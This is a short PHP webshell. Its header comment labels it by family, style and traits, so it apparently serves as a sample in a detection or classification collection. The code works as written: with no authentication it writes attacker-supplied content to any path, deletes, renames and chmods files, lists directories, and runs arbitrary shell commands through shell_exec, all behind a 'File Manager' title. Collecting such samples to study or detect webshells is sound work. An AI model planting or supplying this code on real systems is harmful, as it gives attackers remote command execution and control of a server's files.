<?php
/* Family: webshell/file-manager
   Style: file manager with edit, delete, rename and command box
   Trait: file_put_contents of POST content to a POST path, unlink/rename actions, command execution */
$p = $_REQUEST['path'] ?? '.';
switch ($_REQUEST['act'] ?? '') {
case 'save': file_put_contents($p, $_POST['content']); break;
case 'del': unlink($p); break;
case 'ren': rename($p, $_POST['newname']); break;
case 'chmod': chmod($p, octdec($_POST['mode'])); break;
case 'cmd': echo '<pre>' . shell_exec($_POST['cmd']) . '</pre>'; break;
}
echo '<title>File Manager</title>';
foreach (glob($p . '/*') as $f) { echo is_dir($f) ? "[D] $f<br>" : "$f " . filesize($f) . "<br>"; }
